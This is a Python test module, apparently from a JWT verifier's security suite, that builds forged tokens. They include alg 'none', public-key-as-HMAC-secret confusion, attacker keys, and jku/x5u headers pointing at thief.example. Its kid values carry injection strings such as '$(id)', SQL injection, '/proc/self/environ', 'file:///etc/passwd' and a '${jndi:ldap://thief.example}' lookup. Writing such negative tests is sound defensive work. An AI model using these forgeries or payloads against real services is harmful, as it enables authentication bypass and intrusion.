"""Tokens whose header asks for another way to verify them."""

import hashlib
import hmac
from collections.abc import Callable, Iterator
from typing import Any

import orjson
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.hashes import SHA256
from joserfc import jws
from joserfc.jwk import ECKey, OKPKey, RSAKey

from tests.security.tokens.forging import THIEF, Token, decoded, signing
from tests.security.tokens.scene import Scene

RSA = RSAKey.generate_key(2048)
NO_KEYS: tuple[object, ...] = (
    *("", " 1", "1 ", "01", "+1", "1.0", "0x1", "１", "-1", "one", "null", "*", "1\x00"),  # noqa: RUF001
    *(1, 1.0, True, None, [], ["1"], {}, {"1": "1"}),
    *("../../../../dev/null", "/proc/self/environ", "1' OR '1'='1", "1; DROP TABLE", "$(id)", "x" * 1_000),
    *("https://thief.example/key", "file:///etc/passwd", "${jndi:ldap://thief.example}"),
)


def algorithms(scene: Scene, good: Token) -> Iterator[tuple[str, object]]:
    """Other algorithms than ours, with the right key misused, or with a key of one's own."""
    unsigned = good.by(lambda _: b"")
    for name in ("none", "None", "NONE", "nOnE", ""):
        yield f"unsigned, alg {name!r}", unsigned.headed(alg=name)
    key = scene.vault.token_key(1)
    jwk = key.as_dict(private=False)
    public = {"raw": decoded(str(jwk["x"])), "PEM": key.as_pem(private=False), "JWK": orjson.dumps(jwk)}
    for form, secret in public.items():
        for alg, digest in (("HS256", hashlib.sha256), ("HS512", hashlib.sha512)):
            yield f"{alg}, secret: the public key as {form}", good.by(_hmac(secret, digest), alg=alg)
    yield "HS256, our algorithm said", good.by(_hmac(public["raw"], hashlib.sha256))
    yield "EdDSA by our key", good.headed(alg="EdDSA")
    yield "our algorithm, another's key", good.by(signing(THIEF))
    yield "Ed448, a key of one's own", _by_joserfc(good, "Ed448", OKPKey.generate_key("Ed448"))
    for alg, name in (("ES256", "P-256"), ("ES384", "P-384"), ("ES512", "P-521")):
        yield f"{alg}, a key of one's own", _by_joserfc(good, alg, ECKey.generate_key(name))
    for alg in ("RS256", "PS256"):
        yield f"{alg}, a key of one's own", _by_joserfc(good, alg, RSA)
    rsa = RSA.get_op_key("sign")
    yield "RSA, our algorithm said", good.by(lambda said: rsa.sign(said, padding.PKCS1v15(), SHA256()))
    for odd in (["Ed25519"], 1, None, {"alg": "Ed25519"}, "ed25519", "Ed25519 "):
        yield f"alg {odd!r}", good.headed(alg=odd)
    yield "no alg", good.headless("alg")


def headers(_: Scene, good: Token) -> Iterator[tuple[str, object]]:
    """Whatever a header may ask for, signed by a thief's key, and by ours."""
    theirs = THIEF.as_dict(private=False)
    asked: dict[str, object] = {
        "jwk": theirs,
        "jku": "https://thief.example/jwks.json",
        "x5u": "https://thief.example/key.pem",
        "x5c": ["MIIB"],
        "x5t": "thief",
        "b64": False,
        "cty": "JWT",
        "zip": "DEF",
        "enc": "A256GCM",
        "url": "http://localhost/",
        "nonce": "1",
    }
    for name, value in asked.items():
        yield f"{name} of a thief", good.by(signing(THIEF), **{name: value})
        yield f"{name}, our key", good.headed(**{name: value})
    yield "b64 false, critical", good.headed(b64=False, crit=["b64"])
    for crit in (["hexmart"], ["exp"], [], "b64", ["kid"]):
        yield f"crit {crit}", good.headed(crit=crit)
    for typ in ("at+jwt", "JWE", "jwt", "", None, 1):
        yield f"typ {typ!r}", good.headed(typ=typ)
    yield "no typ", good.headless("typ")
    for name, raw in {
        "twice alg": b'{"typ":"JWT","alg":"none","alg":"Ed25519","kid":"1"}',
        "twice kid": b'{"typ":"JWT","alg":"Ed25519","kid":"2","kid":"1"}',
        "another order": b'{"kid":"1","alg":"Ed25519","typ":"JWT"}',
        "with spaces": b'{"typ": "JWT", "alg": "Ed25519", "kid": "1"}',
        "escaped": b'{"typ":"JWT","\\u0061lg":"Ed25519","kid":"1"}',
        "no JSON": b"typ=JWT",
        "a list": b'["Ed25519"]',
        "a number": b"1",
        "null": b"null",
        "empty": b"{}",
        "deep": b"[" * 500 + b"]" * 500,
        "no UTF-8": b'{"typ":"JWT","alg":"Ed25519","kid":"\xff"}',
    }.items():
        yield f"header {name}", Token(raw, good.claims, good.sign)


def kids(scene: Scene, good: Token) -> Iterator[tuple[str, object]]:
    """Names of keys that are none, or not good now; signed by the key they might mean."""
    yield "no kid", good.headless("kid")
    for kid in NO_KEYS:
        yield f"kid {kid!r:.40}", good.headed(kid=kid)
        yield f"kid {kid!r:.40} of a thief", good.by(signing(THIEF), kid=kid)
    for generation in (0, 2, 3, 2**31, 10**30):
        yield f"generation {generation}", good.by(signing(scene.vault.token_key(generation)), kid=str(generation))
    yield "the next generation's key, ours said", good.by(signing(scene.vault.token_key(2)))


def _hmac(secret: bytes, digest: Any) -> Callable[[bytes], bytes]:
    return lambda said: hmac.digest(secret, said, digest)


def _by_joserfc(good: Token, alg: str, key: Any) -> str:
    return jws.serialize_compact({**good.head, "alg": alg}, orjson.dumps(good.said), key, algorithms=[alg])
